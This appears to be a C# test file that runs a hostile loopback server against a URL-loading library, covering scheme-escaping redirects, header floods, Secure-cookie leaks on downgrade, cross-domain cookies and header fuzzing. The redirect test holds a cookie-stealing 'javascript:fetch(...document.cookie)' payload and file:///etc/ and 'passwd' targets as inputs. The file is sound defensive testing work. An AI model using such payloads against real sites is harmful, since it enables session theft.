using System.Collections.Concurrent;
using System.Diagnostics;
using System.Globalization;
using System.IO.Compression;
using System.Net.Security;
using System.Net.Sockets;
using System.Runtime.Versioning;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Text.RegularExpressions;
using UrlLoading.Tests.Infrastructure;

namespace UrlLoading.Tests.Security;

/// <summary>
/// Issue 12's "what already holds, and must keep holding", each performed for real by a hostile server on loopback:
/// redirects out of http, oversized header sections, https-to-http cookie leaks, cookies for other IP domains, and
/// random values in every header the session parses. Runs alone, so that an unobserved or unhandled exception seen
/// while the random responses run can only be theirs.
/// </summary>
[Collection("Hostile server")]
[UnsupportedOSPlatform("windows")]
public sealed partial class HostileServerTests(TestServer server)
{
    /// <summary>The seed of the random responses; a failure message names it, so that the run can be repeated.</summary>
    private const int RandomSeed = 12_2024;

    /// <summary>Resources with a random response each, every one loaded twice (the second time through the cache).</summary>
    private const int RandomResources = 200;

    private static readonly TimeSpan s_bound = TimeSpan.FromSeconds(15);

    private static readonly string[] s_passwordMethods =
        [UrlProtectionSpace.AuthenticationMethodHttpBasic, UrlProtectionSpace.AuthenticationMethodHttpDigest];

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("file")]
    [InlineData("ftp")]
    [InlineData("data")]
    [InlineData("gopher")]
    [InlineData("javascript")]
    public async Task A_redirect_out_of_http_fails_with_UnsupportedUrl_and_reads_nothing_from_the_target(string scheme)
    {
        // The file: target is a FIFO: opening it to read would release the writer below (and reading it would block).
        using var fifo = new Fifo();
        await using var trap = new RawServer((_, _) => Task.CompletedTask);
        string location = scheme switch
        {
            "file" => new Uri(fifo.Path).AbsoluteUri,
            "data" => "data:text/plain;base64,c2VjcmV0",
            "javascript" => "javascript:fetch('http://127.0.0.1/?'+document.cookie)",
            _ => $"{scheme}://127.0.0.1:{trap.Url().Port}/secret",
        };
        await using var hostile = new RawServer(async (socket, ct) =>
        {
            await using var stream = new NetworkStream(socket, ownsSocket: false);
            await ReadHeadAsync(stream, ct);
            await WriteAsync(stream, $"HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n", ct);
        });
        await using var session = new UrlSession(UrlSessionConfiguration.Ephemeral);

        var error = await Assert.ThrowsAsync<UrlError>(
            () => session.DataAsync(hostile.Url("/start"), Ct).WaitAsync(s_bound, Ct));

        Assert.Equal(UrlErrorCode.UnsupportedUrl, error.Code);
        Assert.Equal(scheme, error.FailingUrl?.Scheme);
        Assert.Equal(0, trap.AcceptedConnections);
        Assert.False(fifo.WasOpenedForReading, $"The session opened {fifo.Path} to read it.");
    }

    [Theory]
    [InlineData(1)]
    [InlineData(100_000)]
    public async Task A_1_MiB_header_section_in_one_or_100000_fields_fails_with_BadServerResponse_and_the_session_goes_on(
        int fields)
    {
        await using var hostile = new HeaderFlood(HeaderFlood.Fields(fields));
        await using var session = new UrlSession(UrlSessionConfiguration.Ephemeral);

        var error = await Assert.ThrowsAsync<UrlError>(() => session.DataAsync(hostile.Url, Ct).WaitAsync(s_bound, Ct));

        Assert.Equal(UrlErrorCode.BadServerResponse, error.Code);
        await hostile.Dropped.WaitAsync(s_bound, Ct);
        var (data, _) = await session.DataAsync(hostile.Url, Ct).WaitAsync(s_bound, Ct);
        Assert.Equal("hello", Encoding.ASCII.GetString(data));
        Assert.Equal(2, hostile.Connections);
    }

    [Fact]
    public async Task An_endless_header_section_is_cut_off_after_a_bounded_number_of_bytes()
    {
        // Were the header section buffered without bound, the server would write until the test gave up.
        await using var hostile = new HeaderFlood(HeaderFlood.Endless());
        await using var session = new UrlSession(UrlSessionConfiguration.Ephemeral);

        var error = await Assert.ThrowsAsync<UrlError>(() => session.DataAsync(hostile.Url, Ct).WaitAsync(s_bound, Ct));

        Assert.Equal(UrlErrorCode.BadServerResponse, error.Code);
        long written = await hostile.Dropped.WaitAsync(s_bound, Ct);
        Assert.True(written < 64 * 1024 * 1024, $"The server wrote {written:N0} header bytes before the session gave up.");
        var (data, _) = await session.DataAsync(hostile.Url, Ct).WaitAsync(s_bound, Ct);
        Assert.Equal("hello", Encoding.ASCII.GetString(data));
    }

    [Fact]
    public async Task An_https_to_http_redirect_takes_the_plain_cookies_along_but_not_the_Secure_ones()
    {
        using var certificate = TlsServer.CreateCertificate();
        var landing = new TaskCompletionSource<string>(TaskCreationOptions.RunContinuationsAsynchronously);
        await using var plain = new RawServer(async (socket, ct) =>
        {
            await using var stream = new NetworkStream(socket, ownsSocket: false);
            landing.TrySetResult(await ReadHeadAsync(stream, ct));
            await WriteAsync(stream, "HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nlanding", ct);
        });
        Uri target = plain.Url("/landing");
        await using var secure = new RawServer(async (socket, ct) =>
        {
            await using var tls = new SslStream(new NetworkStream(socket, ownsSocket: false));
            await tls.AuthenticateAsServerAsync(new SslServerAuthenticationOptions { ServerCertificate = certificate }, ct);
            await ReadHeadAsync(tls, ct);
            await WriteAsync(tls, "HTTP/1.1 302 Found\r\nSet-Cookie: sid=s3cret; Secure; Path=/\r\n"
                + $"Set-Cookie: theme=dark; Path=/\r\nLocation: {target}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", ct);
        });
        var configuration = UrlSessionConfiguration.Ephemeral;
        await using var session = new UrlSession(configuration, new Pinning(certificate));

        var (data, response) = await session.DataAsync(new UriBuilder(secure.Url("/login")) { Scheme = "https" }.Uri, Ct)
            .WaitAsync(s_bound, Ct);

        Assert.Equal(("landing", target), (Encoding.ASCII.GetString(data), response.Url));
        string head = await landing.Task.WaitAsync(s_bound, Ct);
        Assert.Contains("\r\nCookie: theme=dark\r\n", head, StringComparison.Ordinal);
        Assert.DoesNotContain("s3cret", head, StringComparison.Ordinal);
        Assert.Contains(configuration.HttpCookieStorage!.Cookies, c => c is { Name: "sid", Value: "s3cret", IsSecure: true });
    }

    [Theory]
    [InlineData("127.0.0.1", "0.0.1")]
    [InlineData("127.0.0.1", ".0.0.1")]
    [InlineData("127.0.0.1", "0.1")]
    [InlineData("127.0.0.1", "1")]
    [InlineData("127.0.0.1", "127.0.0.2")]
    [InlineData("127.0.0.1", "localhost")]
    [InlineData("127.0.0.1", "[::1]")]
    [InlineData("localhost", "127.0.0.1")]
    public async Task A_cookie_for_a_domain_that_does_not_match_the_IP_or_host_is_refused(string host, string domain)
    {
        var configuration = UrlSessionConfiguration.Ephemeral;
        configuration.HttpCookieAcceptPolicy = HttpCookieAcceptPolicy.Always;
        await using var session = new UrlSession(configuration);
        var url = new UriBuilder(server.Url("/set-cookie")) { Host = host }.Uri;
        string query = $"?c={Uri.EscapeDataString($"stolen=1; Domain={domain}; Path=/")}"
            + $"&c={Uri.EscapeDataString("own=1; Path=/")}";

        await session.DataAsync(new Uri(url, query), Ct).WaitAsync(s_bound, Ct);

        var stored = Assert.Single(configuration.HttpCookieStorage!.Cookies);
        Assert.Equal(("own", host), (stored.Name, stored.Domain));
    }

    [Fact]
    public async Task Random_values_in_parsed_headers_end_every_task_in_a_response_or_a_UrlError()
    {
        var unexpected = new ConcurrentQueue<string>();
        UnhandledExceptionEventHandler onUnhandled = (_, e) => unexpected.Enqueue($"unhandled: {e.ExceptionObject}");
        EventHandler<UnobservedTaskExceptionEventArgs> onUnobserved =
            (_, e) => unexpected.Enqueue($"unobserved: {e.Exception}");
        AppDomain.CurrentDomain.UnhandledException += onUnhandled;
        TaskScheduler.UnobservedTaskException += onUnobserved;
        string cacheFolder = Path.Combine(Path.GetTempPath(), $"hostile-cache-{Guid.NewGuid():N}");
        try
        {
            var responses = RandomResponses.Generate(new Random(RandomSeed), 2 * RandomResources);
            var hits = new int[RandomResources];
            await using var hostile = new RawServer((socket, ct) => ServeRandomAsync(socket, responses, hits, ct));
            var recorder = new RecordingDelegate();
            var outcomes = new Dictionary<string, int>(StringComparer.Ordinal);
            var failures = new List<string>();
            var clock = Stopwatch.StartNew();
            await using (var session = new UrlSession(RandomConfiguration(hostile, cacheFolder), recorder))
            {
                for (int pass = 1; pass <= 2; pass++)
                {
                    var tasks = new UrlSessionDataTask[RandomResources];
                    for (int i = 0; i < tasks.Length; i++)
                    {
                        tasks[i] = session.DataTask(new Uri($"http://hostile.test/fuzz/{i}"));
                        tasks[i].Resume();
                    }
                    for (int i = 0; i < tasks.Length; i++)
                    {
                        string outcome = await OutcomeAsync(recorder, tasks[i]);
                        outcomes[outcome] = outcomes.GetValueOrDefault(outcome) + 1;
                        if (outcome.StartsWith("FAILED", StringComparison.Ordinal))
                            failures.Add($"resource {i}, pass {pass}: {outcome}\n{Escape(responses[i])}"
                                + $"\nthen\n{Escape(responses[RandomResources + i])}");
                    }
                }
            }
            clock.Stop();
            GC.Collect();
            GC.WaitForPendingFinalizers();
            GC.Collect();

            TestContext.Current.TestOutputHelper?.WriteLine(
                $"seed {RandomSeed}, {clock.Elapsed.TotalSeconds:F1} s: "
                + string.Join(", ", outcomes.Select(o => $"{o.Key} x{o.Value}")));
            Assert.True(failures.Count == 0,
                $"Seed {RandomSeed}: {failures.Count} tasks failed; the first:\n{failures.FirstOrDefault()}");
            Assert.True(unexpected.IsEmpty, $"Seed {RandomSeed}: {string.Join("\n", unexpected)}");
            Assert.DoesNotContain(recorder.Events, e => e.EndsWith("DUPLICATE COMPLETION", StringComparison.Ordinal));
            Assert.True(clock.Elapsed < TimeSpan.FromSeconds(20),
                $"Seed {RandomSeed}: the {2 * RandomResources} tasks took {clock.Elapsed}.");
        }
        finally
        {
            AppDomain.CurrentDomain.UnhandledException -= onUnhandled;
            TaskScheduler.UnobservedTaskException -= onUnobserved;
            if (Directory.Exists(cacheFolder))
                Directory.Delete(cacheFolder, recursive: true);
        }
    }

    [Theory]
    [InlineData("ETag", "\"caf\u00C3\u00A9\"")]
    [InlineData("ETag", "\"v1\u0001\"")]
    [InlineData("Last-Modified", "Sun, 06 Nov 1994 08:49:37 GMT\u00FF")]
    public async Task A_cached_validator_that_cannot_be_sent_does_not_break_the_resource(string header, string value)
    {
        // Found by the random responses below: the second load sent a stored UTF-8 ETag back and failed (Unknown).
        var heads = new ConcurrentQueue<string>();
        await using var hostile = new RawServer(async (socket, ct) =>
        {
            await using var stream = new NetworkStream(socket, ownsSocket: false);
            heads.Enqueue(await ReadHeadAsync(stream, ct));
            string body = $"v{heads.Count}";
            await stream.WriteAsync(Encoding.Latin1.GetBytes(
                $"HTTP/1.1 200 OK\r\nCache-Control: max-age=0\r\n{header}: {value}\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{body}"), ct);
        });
        await using var session = new UrlSession(UrlSessionConfiguration.Ephemeral);

        await session.DataAsync(hostile.Url("/page"), Ct).WaitAsync(s_bound, Ct);
        var (data, _) = await session.DataAsync(hostile.Url("/page"), Ct).WaitAsync(s_bound, Ct);

        Assert.Equal("v2", Encoding.ASCII.GetString(data));
        Assert.DoesNotContain("\r\nIf-", heads.Last(), StringComparison.OrdinalIgnoreCase);
    }

    /// <summary>
    /// Cookies always accepted, a disk cache, stored credentials for the realm "fuzz" (so that random Basic and Digest
    /// challenges are answered) and the hostile server as the proxy for every URL, so no random host is ever looked up.
    /// </summary>
    private static UrlSessionConfiguration RandomConfiguration(RawServer hostile, string cacheFolder)
    {
        var configuration = UrlSessionConfiguration.Ephemeral;
        configuration.HttpCookieAcceptPolicy = HttpCookieAcceptPolicy.Always;
        configuration.UrlCache = new UrlCache(4 * 1024 * 1024, 20 * 1024 * 1024, cacheFolder);
        configuration.ConnectionProxy = new UrlProxyConfiguration { HttpProxy = hostile.Url(), HttpsProxy = hostile.Url() };
        configuration.TimeoutIntervalForRequest = TimeSpan.FromSeconds(5);
        var credential = new UrlCredential("ada", "lovelace");
        foreach (var (host, port) in new[] { ("hostile.test", 80), ("127.0.0.1", hostile.Url().Port) })
        {
            foreach (string method in s_passwordMethods)
            {
                var space = new UrlProtectionSpace(host, port, "http", "fuzz", method);
                configuration.UrlCredentialStorage!.SetDefaultCredential(credential, space);
            }
        }
        return configuration;
    }

    /// <summary>"response NNN" or "error Code"; "FAILED ..." when the task hung, completed twice or lost its response.</summary>
    private static async Task<string> OutcomeAsync(RecordingDelegate recorder, UrlSessionTask task)
    {
        UrlError? error;
        try
        {
            error = await recorder.CompletionOf(task).WaitAsync(s_bound, Ct);
        }
        catch (TimeoutException)
        {
            return $"FAILED: no completion within {s_bound}; events {string.Join(", ", recorder.EventsOf(task))}";
        }
        if (error is not null)
            return error.Code == UrlErrorCode.TimedOut ? $"FAILED: timed out ({error.Message})" : $"error {error.Code}";
        return task.Response is HttpUrlResponse response
            ? $"response {response.StatusCode}"
            : "FAILED: completed without an error and without a response";
    }

    /// <summary>
    /// Answers the first request for <c>/fuzz/N</c> with random response N, every later one (a retry, a revalidation,
    /// the second pass) with response N + <see cref="RandomResources"/>, and anything else (redirect targets, CONNECT)
    /// plainly.
    /// </summary>
    private static async Task ServeRandomAsync(Socket socket, byte[][] responses, int[] hits, CancellationToken ct)
    {
        await using var stream = new NetworkStream(socket, ownsSocket: false);
        var match = FuzzRequestLine().Match(await ReadHeadAsync(stream, ct));
        byte[] response = match.Success && int.Parse(match.Groups[1].ValueSpan, CultureInfo.InvariantCulture) is var i
            && i < hits.Length
            ? responses[Interlocked.Increment(ref hits[i]) == 1 ? i : RandomResources + i]
            : "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nend"u8.ToArray();
        await stream.WriteAsync(response, ct);
        socket.Shutdown(SocketShutdown.Send);
    }

    [GeneratedRegex(@"^[A-Z]+ (?:http://hostile\.test)?/fuzz/(\d{1,6})[ ?#]")]
    private static partial Regex FuzzRequestLine();

    /// <summary>Reads a request head up to its blank line, a buffer at a time (a request may carry 180 cookies).</summary>
    private static async Task<string> ReadHeadAsync(Stream stream, CancellationToken ct)
    {
        var head = new MemoryStream();
        var buffer = new byte[16 * 1024];
        while (head.Length < 1024 * 1024)
        {
            int read = await stream.ReadAsync(buffer, ct);
            if (read == 0)
                break;
            head.Write(buffer, 0, read);
            if (head.GetBuffer().AsSpan(0, (int)head.Length).IndexOf("\r\n\r\n"u8) >= 0)
                break;
        }
        return Encoding.Latin1.GetString(head.GetBuffer(), 0, (int)head.Length);
    }

    private static Task WriteAsync(Stream stream, string text, CancellationToken ct) =>
        stream.WriteAsync(Encoding.ASCII.GetBytes(text), ct).AsTask();

    private static string Escape(byte[] response)
    {
        var text = new StringBuilder();
        foreach (byte b in response.AsSpan(0, Math.Min(response.Length, 4096)))
            text.Append(b is >= 0x20 and < 0x7F or (byte)'\n' ? ((char)b).ToString() : $"\\x{b:X2}");
        return text.ToString();
    }

    /// <summary>Trusts only the test's own self-signed certificate.</summary>
    [UrlSessionDelegate]
    private sealed partial class Pinning(X509Certificate2 certificate)
    {
        private (AuthChallengeDisposition, UrlCredential?) DidReceiveChallenge(UrlAuthenticationChallenge challenge) =>
            challenge.ProtectionSpace.ServerTrust is { } trust
                && trust.Sha256Fingerprint == Convert.ToHexString(SHA256.HashData(certificate.RawData))
                ? (AuthChallengeDisposition.UseCredential, UrlCredential.ForTrust(trust))
                : (AuthChallengeDisposition.PerformDefaultHandling, null);
    }

    /// <summary>
    /// A named pipe in a private folder with a writer waiting for a reader: the writer's open completes only if
    /// something opens the pipe to read.
    /// </summary>
    private sealed class Fifo : IDisposable
    {
        private readonly string _folder = Directory.CreateTempSubdirectory("hostile-fifo-").FullName;
        private readonly Task<FileStream> _writer;

        public Fifo()
        {
            Path = System.IO.Path.Combine(_folder, "passwd");
            using var mkfifo = Process.Start("mkfifo", [Path]);
            mkfifo.WaitForExit();
            Assert.Equal(0, mkfifo.ExitCode);
            _writer = Task.Factory.StartNew(
                () => new FileStream(Path, FileMode.Open, FileAccess.Write), CancellationToken.None,
                TaskCreationOptions.LongRunning, TaskScheduler.Default);
        }

        public string Path { get; }

        public bool WasOpenedForReading => _writer.IsCompleted;

        public void Dispose()
        {
            // Unless something opened it already, opening it to read releases the waiting writer.
            using var reader = _writer.IsCompleted ? null : new FileStream(Path, FileMode.Open, FileAccess.Read);
            _writer.GetAwaiter().GetResult().Dispose();
            Directory.Delete(_folder, recursive: true);
        }
    }

    /// <summary>
    /// Answers its first connection with a status line and then <c>lines</c> as its header section, never ending it,
    /// and every later connection with "hello". <see cref="Dropped"/> completes, with the header bytes written, once
    /// the client has closed the first connection.
    /// </summary>
    private sealed class HeaderFlood : IAsyncDisposable
    {
        private readonly RawServer _raw;
        private readonly TaskCompletionSource<long> _dropped = new(TaskCreationOptions.RunContinuationsAsynchronously);
        private int _connections;
        private long _written;

        public HeaderFlood(IEnumerable<string> lines)
        {
            _raw = new RawServer(async (socket, ct) =>
            {
                await using var stream = new NetworkStream(socket, ownsSocket: false);
                await ReadHeadAsync(stream, ct);
                if (Interlocked.Increment(ref _connections) > 1)
                {
                    await WriteAsync(stream, "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello", ct);
                    return;
                }
                try
                {
                    await FloodAsync(stream, lines, ct);
                    // The whole section fitted in the socket buffers: wait for the client to close.
                    while (await stream.ReadAsync(new byte[1], ct) > 0)
                    {
                    }
                }
                catch (IOException)
                {
                    // The client closed the connection while the section was being written.
                }
                _dropped.TrySetResult(Volatile.Read(ref _written));
            });
        }

        public Uri Url => _raw.Url("/flood");

        public int Connections => Volatile.Read(ref _connections);

        public Task<long> Dropped => _dropped.Task;

        /// <summary>One field of 1 MiB, or <paramref name="fields"/> small ones.</summary>
        public static IEnumerable<string> Fields(int fields) =>
            fields == 1
                ? [$"X-Big: {new string('a', 1024 * 1024)}\r\n"]
                : Enumerable.Range(0, fields).Select(i => $"X-Field-{i}: v\r\n");

        public static IEnumerable<string> Endless()
        {
            for (long i = 0; ; i++)
                yield return $"X-Field-{i}: v\r\n";
        }

        private async Task FloodAsync(Stream stream, IEnumerable<string> lines, CancellationToken ct)
        {
            await WriteAsync(stream, "HTTP/1.1 200 OK\r\n", ct);
            var chunk = new StringBuilder();
            foreach (string line in lines)
            {
                chunk.Append(line);
                if (chunk.Length >= 64 * 1024)
                    await FlushAsync();
            }
            await FlushAsync();

            async Task FlushAsync()
            {
                await WriteAsync(stream, chunk.ToString(), ct);
                Interlocked.Add(ref _written, chunk.Length);
                chunk.Clear();
            }
        }

        public ValueTask DisposeAsync() => _raw.DisposeAsync();
    }

    /// <summary>
    /// Random responses built from hostile alphabets: control bytes, non-ASCII (UTF-8 and lone Latin-1 bytes), quotes,
    /// commas, semicolons, huge and negative numbers, bad dates, empty values. Each is a string of bytes (chars up to
    /// U+00FF) sent as Latin-1, so that what is generated is exactly what goes on the wire.
    /// </summary>
    private sealed class RandomResponses(Random random)
    {
        private static readonly string[] s_pieces =
        [
            "", " ", "  ", "\t", "\"", "\\\"", "\\", ",", ", ", ";", "; ", "=", "==", ":", "/", "?", "#", "%", "%00", "%2F",
            "..", "*", "@", "'", "<", ">", "(", ")", "\0", "\x01", "\x08", "\x0B", "\x0C", "\x1B", "\x7F", "\r", "\n",
            Utf8("café"), Utf8("中文"), Utf8("😀"), Utf8("\u202E"), Utf8("\uFEFF"), "\xFF", "\xC3", "\x80", "\xE9",
            "0", "-1", "-0", "1", "007", "+5", "1.5", "1e308", "0x10", "NaN", "2147483648", "4294967296",
            "9223372036854775807", "9223372036854775808", "-9223372036854775809", "99999999999999999999999999999999",
            "Thu, 01 Jan 1970 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 GMT", "Mon, 32 Foo 2024 25:61:61 GMT",
            "a", "x=y", "realm", "bytes", "max-age", "gzip",
        ];

        private static readonly string[] s_numbers =
        [
            "0", "-1", "1", "-0", "007", "+5", "1.5", "1e9", "0x10", " 5", "5 ", "", "2147483647", "2147483648", "-2147483649",
            "4294967296", "9223372036854775807", "9223372036854775808", "-9223372036854775808", "99999999999999999999999999999999",
        ];

        private static readonly string[] s_dates =
        [
            "Thu, 01 Jan 1970 00:00:00 GMT", "Sun, 06 Nov 1994 08:49:37 GMT", "Sunday, 06-Nov-94 08:49:37 GMT",
            "Sun Nov  6 08:49:37 1994", "Fri, 31 Dec 9999 23:59:59 GMT", "Thu, 01 Jan 99999 00:00:00 GMT",
            "Mon, 32 Foo 2024 25:61:61 GMT", "0", "-1", "", "yesterday",
        ];

        private static readonly int[] s_statuses =
            [200, 200, 200, 203, 204, 206, 300, 301, 302, 303, 304, 307, 308, 401, 401, 407, 407, 404, 416, 429, 500, 503, 103, 999];

        public static byte[][] Generate(Random random, int count)
        {
            var generator = new RandomResponses(random);
            var responses = new byte[count][];
            for (int i = 0; i < count; i++)
                responses[i] = Encoding.Latin1.GetBytes(generator.Response());
            return responses;
        }

        private static string Utf8(string text) => Encoding.Latin1.GetString(Encoding.UTF8.GetBytes(text));

        private string Response()
        {
            var text = new StringBuilder($"HTTP/1.1 {Pick(s_statuses)} Hostile\r\nConnection: close\r\n");
            Header(text, "Set-Cookie", SetCookie, repeat: 4);
            Header(text, "WWW-Authenticate", Challenge, repeat: 3);
            Header(text, "Proxy-Authenticate", Challenge, repeat: 3);
            Header(text, "Cache-Control", CacheControl, repeat: 2);
            Header(text, "Retry-After", () => Maybe(0.5) ? Pick(s_numbers) : Pick(s_dates) + Junk(1), repeat: 1);
            Header(text, "Content-Range", ContentRange, repeat: 2);
            Header(text, "Location", Location, repeat: 2);
            Header(text, "Content-Length", () => Maybe(0.8) ? Pick(s_numbers) : $"5, {Pick(s_numbers)}", repeat: 2);
            string encoding = Pick(["gzip", "deflate", "br", "identity", "x-gzip", "compress", "zstd", "gzip, br", "gzip, gzip", ""]);
            bool encoded = Maybe(0.4);
            if (encoded)
                text.Append($"Content-Encoding: {(Maybe(0.8) ? encoding : encoding + Junk(2))}\r\n");
            Header(text, "Vary", () => Pick(["*", "Accept-Encoding", "Cookie", "User-Agent, Accept-Language", "", ","])
                + Junk(1), repeat: 2);
            Header(text, "ETag", () => Pick(["\"v1\"", "W/\"v1\"", "\"\"", "v1", "\"open", "W/", ""]) + Junk(2), repeat: 2);
            Header(text, "Expires", () => Pick(s_dates) + Junk(1), repeat: 2);
            if (Maybe(0.5))
                text.Append("Date: ").Append(Pick(s_dates)).Append("\r\n");
            text.Append("\r\n").Append(Body(encoded ? encoding : null));
            return text.ToString();
        }

        private void Header(StringBuilder text, string name, Func<string> value, int repeat)
        {
            if (!Maybe(0.45))
                return;
            for (int n = random.Next(1, repeat + 1); n > 0; n--)
                text.Append(name).Append(": ").Append(value()).Append("\r\n");
        }

        private string SetCookie()
        {
            var cookie = new StringBuilder(Pick(["sid", "a", "", "__Host-x", "__Secure-y", "$Version"]) + Junk(1));
            cookie.Append(Maybe(0.9) ? "=" : "").Append(Junk(3));
            for (int n = random.Next(5); n > 0; n--)
            {
                cookie.Append(Pick(["; ", ";", " ; ", ";;"])).Append(Pick<Func<string>>(
                [
                    () => "Path=" + Pick(["/", "", "/fuzz", "fuzz"]) + Junk(1),
                    () => "Domain=" + Pick(["hostile.test", ".hostile.test", "test", ".", "127.0.0.1", "", "HOSTILE.TEST"])
                        + Junk(1),
                    () => "Expires=" + Pick(s_dates),
                    () => "Max-Age=" + Pick(s_numbers),
                    () => Pick(["Secure", "HttpOnly", "Partitioned", "secure=no"]),
                    () => "SameSite=" + Pick(["Strict", "Lax", "None", ""]) + Junk(1),
                    () => Junk(3),
                ])());
            }
            return cookie.ToString();
        }

        private string Challenge()
        {
            string scheme = Pick(["Basic", "Digest", "Digest", "Bearer", "NTLM", "Negotiate", "", "basic", "DIGEST"]);
            if (scheme is "NTLM" or "Negotiate")
                return scheme + Pick(["", " ", " TlRMTVNTUAACAAAA", " YIIB" + Junk(2)]);
            var challenge = new StringBuilder(scheme);
            string separator = " ";
            for (int n = random.Next(7); n > 0; n--)
            {
                string name = Pick(["realm", "realm", "nonce", "qop", "algorithm", "opaque", "stale", "charset",
                    "userhash", "domain", "", Junk(1)]);
                string value = name switch
                {
                    "realm" when Maybe(0.6) => "fuzz",
                    "qop" => Pick(["auth", "auth-int", "auth,auth-int", "", "token"]) + Junk(1),
                    "algorithm" => Pick(["MD5", "MD5-sess", "SHA-256", "SHA-256-sess", "SHA-512-256", "", "ROT13"]) + Junk(1),
                    "stale" => Pick(["true", "false", "TRUE", ""]),
                    _ => Junk(3),
                };
                string quote = Pick(["\"", "\"", "", "'"]);
                challenge.Append(separator).Append(name).Append(Maybe(0.9) ? "=" : "").Append(quote).Append(value)
                    .Append(Maybe(0.9) ? quote : "");
                separator = Pick([", ", ",", " ", ";", ", , "]);
            }
            return challenge.ToString();
        }

        private string CacheControl()
        {
            var directives = new StringBuilder();
            for (int n = random.Next(1, 6); n > 0; n--)
            {
                string directive = Pick(["max-age=", "s-maxage=", "stale-while-revalidate=", "stale-if-error=",
                    "max-stale=", "min-fresh="]);
                directives.Append(Maybe(0.5)
                    ? directive + (Maybe(0.2) ? $"\"{Pick(s_numbers)}\"" : Pick(s_numbers))
                    : Pick(["no-cache", "no-store", "private", "public", "must-revalidate", "proxy-revalidate", "immutable",
                        "no-cache=\"Set-Cookie\"", "private=\"x", "max-age", "no-transform", Junk(2)]));
                directives.Append(Pick([", ", ",", ";", " ", ",,"]));
            }
            return directives.ToString();
        }

        private string ContentRange() => Pick<Func<string>>(
        [
            () => $"bytes {Pick(s_numbers)}-{Pick(s_numbers)}/{Pick(s_numbers)}",
            () => $"bytes {Pick(s_numbers)}-{Pick(s_numbers)}/*",
            () => $"bytes */{Pick(s_numbers)}",
            () => $"items 0-1/2{Junk(1)}",
            () => "bytes" + Junk(3),
        ])();

        private string Location() =>
            Pick(["/", "", "fuzz/1", "http://hostile.test/", "https://hostile.test/", "http://127.0.0.1:1/", "//other.test/",
                "http://[::1/", "http://ada:lovelace@hostile.test/", "HTTP://HOSTILE.TEST/", "file:///etc/", "data:,", "gopher://x/",
                "javascript:", "http:", "?", "#", "../", "\\\\other.test\\", "http://hostile.test:99999/", "http://hostile.test:-1/"])
            + Junk(3);

        private string Body(string? encoding)
        {
            if (encoding is "gzip" or "x-gzip" && Maybe(0.6))
            {
                var gzip = new MemoryStream();
                using (var compressor = new GZipStream(gzip, CompressionLevel.Fastest, leaveOpen: true))
                    compressor.Write("hello, hostile world"u8);
                byte[] bytes = gzip.ToArray();
                return Encoding.Latin1.GetString(bytes, 0, Maybe(0.7) ? bytes.Length : random.Next(bytes.Length));
            }
            return Pick(["", "hello", Junk(6), new string('b', random.Next(4096))]);
        }

        /// <summary>Up to <paramref name="pieces"/> random pieces; now and then one repeated into a long run.</summary>
        private string Junk(int pieces)
        {
            var junk = new StringBuilder();
            for (int n = random.Next(pieces + 1); n > 0; n--)
            {
                bool run = Maybe(0.03);
                string piece = Pick(s_pieces);
                junk.Append(run ? string.Concat(Enumerable.Repeat(piece, random.Next(100, 2000))) : piece);
            }
            return junk.ToString();
        }

        private bool Maybe(double probability) => random.NextDouble() < probability;

        private T Pick<T>(T[] choices) => choices[random.Next(choices.Length)];
    }
}

/// <summary>Runs alone, so that an unhandled or unobserved exception during the random responses is theirs.</summary>
[CollectionDefinition("Hostile server", DisableParallelization = true)]
public sealed class HostileServerCollection;
